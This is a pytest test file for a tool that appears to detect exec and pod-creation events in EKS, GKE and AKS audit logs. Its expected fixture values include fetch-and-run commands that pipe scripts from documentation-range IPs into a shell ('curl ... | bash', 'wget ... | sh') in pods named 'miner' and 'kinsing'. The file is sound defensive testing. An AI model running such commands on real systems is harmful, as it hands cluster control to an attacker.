"""Managed-Kubernetes audit sources (EKS, GKE, AKS) through the real reader and the CLI."""

from __future__ import annotations

import contextlib
import json
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from execguard.cli import app
from execguard.model import Event, SourceRef
from execguard.pipeline.prefilter import literals_for
from execguard.sources import aks, eks, gke, k8s_audit
from execguard.sources.base import SourceError
from execguard.sources.reader import Reader

EXEC_ACTIONS = ("exec", "attach", "ephemeral_container", "kubelet_run", "create")


def read(path: Path, literals: list[bytes] | None = None, fmt: str = "auto") -> tuple[list[Event], list[tuple[int | None, str]]]:
    warnings: list[tuple[int | None, str]] = []
    reader = Reader(fmt=fmt, literals=literals, warn=lambda f, n, m: warnings.append((n, m)))
    return list(reader.read([str(path)])), warnings


def one(events: list[Event], action: str, verb: str | None = None, outcome: str = "allowed") -> Event:
    found = [e for e in events if e.action == action and (verb is None or e.verb == verb) and e.outcome == outcome]
    assert len(found) == 1, [(e.action, e.verb, e.outcome) for e in events]
    return found[0]


def hunt(path: Path) -> list[dict[str, Any]]:
    result = CliRunner().invoke(app, ["hunt", str(path), "-o", "jsonl"])
    assert result.exit_code == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]


# ---------------------------------------------------------------- the seven cases, per wrapper shape
def check_seven_cases(events: list[Event], fmt: str, user: str, cluster: str | None, node: str) -> None:
    assert {e.source.format for e in events} == {fmt}
    assert {e.target.cluster for e in events} == {cluster}

    spdy = one(events, "exec", "create")
    assert spdy.actor.user == user
    assert (spdy.target.namespace, spdy.target.pod, spdy.target.container) == ("payments", "api-7d9f8-x2k4q", "api")
    assert spdy.command[:2] == ["sh", "-c"]
    assert "Bearer [REDACTED]" in spdy.command[2] and "eyJ" not in spdy.command[2]
    assert spdy.tty is True and spdy.stdin is True

    ws = one(events, "exec", "get")
    assert ws.command == ["/bin/bash", "-c", "curl -s http://198.51.100.7/x.sh | bash"]
    assert ws.code == 101

    attach = one(events, "attach", "create")
    assert (attach.target.pod, attach.target.container, attach.command) == ("worker-0", "worker", [])

    debug = one(events, "ephemeral_container", "patch")
    assert (debug.target.container, debug.target.image, debug.command) == ("debugger-8xw2p", "busybox:1.36", ["sh"])
    assert debug.target.kind == "debug->worker"

    run = one(events, "kubelet_run", "create")
    assert (run.target.node, run.target.namespace, run.target.pod, run.target.container) == (
        node,
        "kube-system",
        "coredns-5d78c9869d-abcde",
        "coredns",
    )
    assert run.command == ["id"]

    created = one(events, "create", "create")
    assert (created.target.kind, created.target.pod, created.target.image) == ("Pod", "miner", "ubuntu:22.04")
    assert created.command[:2] == ["/bin/sh", "-c"] and "wget -q -O - http://198.51.100.9/k.sh | sh" in created.command[2]

    denied = one(events, "exec", "create", outcome="denied")
    assert (denied.actor.user, denied.actor.kind, denied.code) == ("system:serviceaccount:default:builder", "service_account", 403)


# ---------------------------------------------------------------- EKS
EKS_USER = "arn:aws:sts::111122223333:assumed-role/eks-admin/alice"
EKS_NODE = "ip-10-0-3-17.ec2.internal"


def test_eks_filter_log_events_output(data: Path) -> None:
    events, warnings = read(data / "eks/filter-log-events.json")
    # the authenticator line in the same batch is not an audit event and is passed over quietly
    assert warnings == []
    assert len(events) == 7
    check_seven_cases(events, "eks", EKS_USER, None, EKS_NODE)
    assert one(events, "exec", "get").actor.source_ip == ["198.51.100.23"]


def test_eks_subscription_payloads_gz(data: Path) -> None:
    events, warnings = read(data / "eks/subscription-payloads.jsonl.gz")
    assert warnings == []  # the CONTROL_MESSAGE probe yields nothing and is no error
    assert len(events) == 7
    check_seven_cases(events, "eks", EKS_USER, "prod-east", EKS_NODE)
    assert {e.source.line for e in events} == {2}


def test_eks_insights_rows_and_flattened_native(data: Path) -> None:
    events, warnings = read(data / "eks/insights-rows.jsonl", literals=None)
    by_line = {e.source.line: e for e in events}
    assert sorted(by_line) == [1, 2, 3]
    assert by_line[1].source.format == "eks" and by_line[1].target.cluster == "prod-east"
    # a native event flattened with exporter keys (p_*) stays with the k8s-audit source
    flat = by_line[3]
    assert flat.source.format == "k8s-audit"
    assert (flat.verb, flat.action, flat.command[0]) == ("get", "exec", "/bin/bash")
    assert [n for n, _ in warnings] == [4, 5]
    assert "not an audit stream" in warnings[0][1]
    assert "not JSON" in warnings[1][1]


def test_eks_websocket_exec_alerts_through_cli(data: Path) -> None:
    alerts = hunt(data / "eks/subscription-payloads.jsonl.gz")
    ws = [a for a in alerts if a["action"] == "exec" and a["verb"] == "get"]
    assert len(ws) == 1
    assert ws[0]["source"]["format"] == "eks"
    assert ws[0]["actor"]["user"] == EKS_USER
    assert ws[0]["target"]["cluster"] == "prod-east"
    assert (ws[0]["target"]["namespace"], ws[0]["target"]["pod"], ws[0]["target"]["container"]) == ("payments", "api-7d9f8-x2k4q", "api")
    assert ws[0]["command"] == ["/bin/bash", "-c", "curl -s http://198.51.100.7/x.sh | bash"]
    assert not any("eyJhbGci" in json.dumps(a) for a in alerts)


AUTHENTICATOR = 'time="2026-03-02T10:17:30Z" level=info msg="access granted" method=POST path=/authenticate username=kubernetes-admin'


def mixed_batch(data: Path) -> dict[str, Any]:
    batch = json.loads((data / "eks/filter-log-events.json").read_text())
    batch["events"].insert(0, {"logStreamName": "authenticator-0c1f", "timestamp": 1, "message": AUTHENTICATOR, "ingestionTime": 2})
    return batch


def test_eks_batch_skips_authenticator_stream(data: Path) -> None:
    events = list(eks.events(mixed_batch(data), SourceRef("eks", "t", 1)))
    assert len(events) == 7 and {e.source.format for e in events} == {"eks"}


def test_eks_export_with_authenticator_lines_through_reader(data: Path, tmp_path: Path) -> None:
    path = tmp_path / "all-streams.json"
    path.write_text(json.dumps(mixed_batch(data), indent=2))
    events, _ = read(path)
    assert len(events) == 7


def test_eks_non_audit_stream_record_is_a_source_error() -> None:
    record = {"logStreamName": "authenticator-abc", "message": 'time="x" level=info msg="access granted"', "ingestionTime": 1}
    assert eks.match(record)
    with pytest.raises(SourceError, match="not an audit stream"):
        list(eks.events(record, SourceRef("eks", "t", 1)))


# ---------------------------------------------------------------- GKE
GKE_USER = "dev.ops@example.com"
GKE_NODE = "gke-shop-gke-1-default-pool-1a2b3c4d-9xyz"


def check_gke(events: list[Event]) -> None:
    assert {e.source.format for e in events} == {"gke"}
    assert {e.target.cluster for e in events} == {"shop-gke-1"}
    for verb in ("create", "get"):
        ex = one(events, "exec", verb)
        assert (ex.actor.user, ex.actor.source_ip, ex.target.namespace, ex.target.pod) == (
            GKE_USER,
            ["34.140.22.7"],
            "shop",
            "cart-6c9f7b-xq2lm",
        )
        assert ex.command == []  # GKE records no command: none is invented
        assert ex.request_uri == "/api/v1/namespaces/shop/pods/cart-6c9f7b-xq2lm/exec"
    assert one(events, "exec", "create").actor.user_agent.startswith("kubectl/v1.28.9")
    assert one(events, "attach", "create").target.pod == "cart-6c9f7b-xq2lm"
    debug = one(events, "ephemeral_container", "patch")
    assert (debug.target.container, debug.target.image, debug.command) == ("debugger-r2d2x", "nicolaka/netshoot", ["bash"])
    run = one(events, "kubelet_run", "create")
    assert (run.actor.kind, run.target.node, run.target.pod, run.target.container) == ("anonymous", GKE_NODE, "cart-6c9f7b-xq2lm", "cart")
    created = one(events, "create", "create")
    assert (created.target.kind, created.target.pod, created.target.image) == ("Pod", "kinsing", "ubuntu:22.04")
    assert created.command[0] == "/bin/bash" and "d.sh | sh" in created.command[2]
    denied = one(events, "exec", "create", outcome="denied")
    assert (denied.actor.user, denied.code, denied.target.pod) == ("system:serviceaccount:shop:cart", 403, "kube-proxy-xk2s9")
    assert all(e.event_id for e in events)


def test_gke_entries_lines(data: Path) -> None:
    events, warnings = read(data / "gke/entries.jsonl")
    assert len(events) == 7
    check_gke(events)
    assert warnings == [(8, "gke: authenticationInfo is str, not an object")]


def test_gke_array_gz_and_logging_export(data: Path) -> None:
    events, warnings = read(data / "gke/entries-array.json.gz")
    assert warnings == [] and len(events) == 7
    check_gke(events)
    exported, warnings = read(data / "gke/logging-export.json")
    assert warnings == []
    assert [(e.action, e.verb) for e in exported] == [("exec", "create"), ("exec", "get")]


def test_gke_exec_alert_says_no_command(data: Path) -> None:
    alerts = hunt(data / "gke/entries.jsonl")
    ex = [a for a in alerts if a["action"] == "exec" and a["verb"] == "get"]
    assert len(ex) == 1
    assert ex[0]["source"]["format"] == "gke"
    assert ex[0]["actor"]["user"] == GKE_USER and ex[0]["actor"]["source_ip"] == ["34.140.22.7"]
    assert (ex[0]["target"]["cluster"], ex[0]["target"]["namespace"], ex[0]["target"]["pod"]) == ("shop-gke-1", "shop", "cart-6c9f7b-xq2lm")
    assert ex[0]["command"] == []
    assert ex[0]["outcome"] == "allowed"


def test_gke_outcomes_from_status_and_grants() -> None:
    def entry(**payload: Any) -> dict[str, Any]:
        base = {"methodName": "io.k8s.core.v1.pods.exec.get", "resourceName": "core/v1/namespaces/a/pods/b/exec"}
        return {"protoPayload": {**base, **payload}, "resource": {"type": "k8s_cluster"}, "insertId": "i"}

    def outcome(obj: dict[str, Any]) -> tuple[str, int | None]:
        (ev,) = gke.events(obj, SourceRef("gke", "t", 1))
        return ev.outcome, ev.code

    assert outcome(entry(status={"code": 16, "message": "UNAUTHENTICATED"})) == ("denied", 401)
    assert outcome(entry(authorizationInfo=[{"granted": False}])) == ("denied", None)
    assert outcome(entry(status={"code": 3}, response={"code": 400})) == ("error", 400)
    assert outcome(entry(status={})) == ("allowed", None)
    assert outcome(entry()) == ("unknown", None)


def test_gke_exec_options_body_and_method_fallback() -> None:
    obj = {
        "protoPayload": {
            "methodName": "io.k8s.core.v1.pods.exec.create",
            "request": {"@type": "core.k8s.io/v1.PodExecOptions", "command": ["sh", "-c", "id"], "container": "web", "tty": False},
        },
        "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "c1"}},
    }
    (ev,) = gke.events(obj, SourceRef("gke", "t", 1))
    assert (ev.action, ev.command, ev.target.container, ev.tty) == ("exec", ["sh", "-c", "id"], "web", False)


def test_gke_ignores_other_google_audit_logs() -> None:
    compute = {"protoPayload": {"methodName": "v1.compute.instances.insert", "serviceName": "compute.googleapis.com"}}
    assert not gke.match(compute)


# ---------------------------------------------------------------- AKS
AKS_USER = "carol@contoso.com"
AKS_NODE = EKS_NODE  # the same native events are wrapped for each cloud


def test_aks_diagnostic_records(data: Path) -> None:
    events, warnings = read(data / "aks/diagnostics.jsonl")
    assert len(events) == 7
    check_seven_cases(events, "aks", AKS_USER, "aks-shop-weu", AKS_NODE)
    assert one(events, "attach", "create").source.line == 3  # properties.log already an object there
    assert warnings == [(8, "aks: category 'kube-apiserver' is not an audit record")]


def test_aks_storage_records_wrapper_gz(data: Path) -> None:
    events, warnings = read(data / "aks/insights-logs-kube-audit.json.gz")
    assert warnings == []  # the kube-apiserver record mixed into the batch is passed over
    assert [(e.action, e.verb, e.target.cluster) for e in events] == [("exec", "create", "aks-shop-weu"), ("exec", "get", "aks-shop-weu")]


def test_aks_log_analytics_rows(data: Path) -> None:
    events, warnings = read(data / "aks/aksaudit-rows.json")
    assert warnings == []
    ws = one(events, "exec", "get")
    assert (ws.actor.user, ws.actor.source_ip, ws.target.cluster, ws.code, ws.stage) == (
        AKS_USER,
        ["20.61.5.9"],
        "aks-shop-weu",
        101,
        "ResponseStarted",
    )
    assert ws.command[0] == "/bin/bash"
    created = one(events, "create", "create")
    assert created.target.pod == "miner" and created.command[0] == "/bin/sh"
    # ResponseStatus arrived as JSON text: still read
    assert one(events, "exec", "create", outcome="denied").code == 403


def test_aks_exec_alert_through_cli(data: Path) -> None:
    alerts = hunt(data / "aks/diagnostics.jsonl")
    spdy = [a for a in alerts if a["action"] == "exec" and a["verb"] == "create" and a["outcome"] == "allowed"]
    assert len(spdy) == 1
    assert spdy[0]["source"]["format"] == "aks"
    assert spdy[0]["actor"]["user"] == AKS_USER
    assert spdy[0]["target"] == spdy[0]["target"] | {
        "cluster": "aks-shop-weu",
        "namespace": "payments",
        "pod": "api-7d9f8-x2k4q",
        "container": "api",
    }
    assert spdy[0]["command"][:2] == ["sh", "-c"] and "[REDACTED]" in spdy[0]["command"][2]


# ---------------------------------------------------------------- dispatch and prefilter
SAMPLES = [
    ("eks", "eks/filter-log-events.json"),
    ("eks", "eks/subscription-payloads.jsonl.gz"),
    ("gke", "gke/entries.jsonl"),
    ("gke", "gke/logging-export.json"),
    ("aks", "aks/diagnostics.jsonl"),
    ("aks", "aks/aksaudit-rows.json"),
]


@pytest.mark.parametrize(("fmt", "name"), SAMPLES)
def test_format_option_reads_only_its_own(data: Path, fmt: str, name: str) -> None:
    auto, _ = read(data / name)
    forced, _ = read(data / name, fmt=fmt)
    assert [e.event_id for e in forced] == [e.event_id for e in auto]
    other = next(f for f in ("eks", "gke", "aks") if f != fmt)
    wrong, warnings = read(data / name, fmt=other)
    assert wrong == [] and warnings


@pytest.mark.parametrize(("fmt", "name"), SAMPLES)
def test_prefilter_keeps_every_line_of_an_action(data: Path, fmt: str, name: str) -> None:
    everything, _ = read(data / name)
    for action in EXEC_ACTIONS:
        want = [(e.event_id, e.target.container) for e in everything if e.action == action]
        got, _ = read(data / name, literals=literals_for({action}))
        assert [(e.event_id, e.target.container) for e in got if e.action == action] == want, action


def test_unparsable_uri_is_a_source_error() -> None:
    row = {"AuditId": "a", "Verb": "get", "RequestUri": "//[bad/exec", "ObjectRef": {"resource": "pods", "subresource": "exec"}}
    with pytest.raises(SourceError, match="bad requestURI"):
        list(aks.events(row, SourceRef("aks", "t", 1)))


def test_native_events_are_not_claimed_by_cloud_sources(data: Path) -> None:
    native = json.loads((data / "falco/exec_pod.json").read_text().splitlines()[0])
    assert k8s_audit.match(native)
    for mod in (eks, gke, aks):
        assert not mod.match(native)
        assert not mod.match({"kind": "EventList", "items": []})


# ---------------------------------------------------------------- robustness
KEY_NAMES = (
    "message @message logStream logStreamName logEvents messageType logGroup events ingestionTime protoPayload "
    "methodName resourceName authenticationInfo authorizationInfo requestMetadata status request response resource "
    "labels operation entries granted code callerIp category properties log resourceId records AuditId Verb "
    "RequestUri User ObjectRef ResponseStatus RequestObject SourceIps auditID verb requestURI objectRef spec "
    "containers"
)
KEYS = KEY_NAMES.split()
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-5, 500),
    st.sampled_from(
        [
            "kube-audit",
            "kube-apiserver-audit-1",
            "io.k8s.core.v1.pods.exec.create",
            "core/v1/namespaces/a/pods/b/exec",
            "core/v1/nodes/n/proxy/run/a/b/c",
            "/api/v1/namespaces/a/pods/b/exec?command=sh",
            "//[bad/exec",
            '{"auditID":"x","verb":"get","requestURI":"/api/v1/namespaces/a/pods/b/exec"}',
            "{not json",
            "DATA_MESSAGE",
            "/aws/eks/c/cluster",
            "/managedclusters/x",
        ]
    ),
    st.text(max_size=12),
)
JSONISH = st.recursive(
    SCALARS, lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.sampled_from(KEYS), kids, max_size=5), max_leaves=25
)


@pytest.mark.parametrize("mod", [eks, gke, aks], ids=lambda m: m.FORMAT)
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(obj=st.dictionaries(st.sampled_from(KEYS), JSONISH, max_size=6))
def test_events_raise_only_source_error(mod: ModuleType, obj: dict[str, Any]) -> None:
    mod.match(obj)  # never raises either
    with contextlib.suppress(SourceError):
        list(mod.events(obj, SourceRef(mod.FORMAT, "fuzz", 1)))


def _records() -> list[tuple[ModuleType, Any]]:
    data = Path(__file__).parent / "data"
    out: list[tuple[ModuleType, Any]] = [
        (eks, json.loads((data / "eks/filter-log-events.json").read_text())),
        (gke, json.loads((data / "gke/logging-export.json").read_text())),
        (aks, json.loads((data / "aks/aksaudit-rows.json").read_text())[0]),
    ]
    out += [(eks, json.loads(line)) for line in (data / "eks/insights-rows.jsonl").read_text().splitlines()[:2]]
    out += [(gke, json.loads(line)) for line in (data / "gke/entries.jsonl").read_text().splitlines()]
    out += [(aks, json.loads(line)) for line in (data / "aks/diagnostics.jsonl").read_text().splitlines()]
    return out


RECORDS = _records()


def _paths(obj: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(obj, dict):
        for key, value in obj.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(obj, list):
        for i, value in enumerate(obj):
            found += _paths(value, (*prefix, i))
    return found


@settings(max_examples=400, deadline=None)
@given(data=st.data())
def test_damaged_real_records_raise_only_source_error(data: st.DataObject) -> None:
    mod, record = data.draw(st.sampled_from(RECORDS))
    record = json.loads(json.dumps(record))
    path = data.draw(st.sampled_from(_paths(record)[1:]))
    node = record
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = data.draw(JSONISH)
    with contextlib.suppress(SourceError):
        list(mod.events(record, SourceRef(mod.FORMAT, "fuzz", 1)))


def _gke_proxy(resource: str, method: str = "io.k8s.core.v1.nodes.proxy.get", code: int = 0, decision: str = "allow",
               email: str = "system:serviceaccount:monitoring:prom") -> dict[str, Any]:  # fmt: skip
    """A GKE nodes/proxy entry in the shape of a real export (resourceName carries the kubelet path after
    `proxy/`, status.code is a gRPC code, operation.id the audit ID). Shape checked against a GKE record kept as
    parser test data by panther-labs/panther (gcplogs auditlog_test.go); values here are our own."""
    return {
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": email},
            "authorizationInfo": [{"granted": decision == "allow", "permission": method, "resource": resource}],
            "methodName": method,
            "requestMetadata": {"callerIp": "10.1.2.3", "callerSuppliedUserAgent": "Prometheus/2.51"},
            "resourceName": resource,
            "serviceName": "k8s.io",
            "status": {"code": code},
        },
        "insertId": "abc",
        "resource": {"type": "k8s_cluster", "labels": {"project_id": "p", "cluster_name": "c1", "location": "us-central1-f"}},
        "timestamp": "2026-04-24T06:29:54.304506Z",
        "labels": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""},
        "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
        "operation": {"id": "op-1", "producer": "k8s.io", "first": True},
    }


def test_gke_nodes_proxy_real_shape() -> None:
    from execguard.model import SourceRef
    from execguard.sources import gke

    def one(rec: dict[str, Any]) -> Any:
        assert gke.match(rec)
        [ev] = list(gke.events(rec, SourceRef()))
        return ev

    scrape = one(_gke_proxy("core/v1/nodes/gke-n1/proxy/metrics/cadvisor"))
    assert (scrape.action, scrape.target.node, scrape.outcome, scrape.event_id, scrape.target.cluster) == (
        "kubelet_other", "gke-n1", "allowed", "op-1", "c1")  # fmt: skip
    run = one(_gke_proxy("core/v1/nodes/gke-n1/proxy/run/shop/web/app", method="io.k8s.core.v1.nodes.proxy.create"))
    assert (run.action, run.target.namespace, run.target.pod, run.target.container) == ("kubelet_run", "shop", "web", "app")
    denied = one(_gke_proxy("core/v1/nodes/gke-n1/proxy/pods", code=7, decision="forbid", email="system:anonymous"))
    assert (denied.outcome, denied.code, denied.actor.kind) == ("denied", 403, "anonymous")
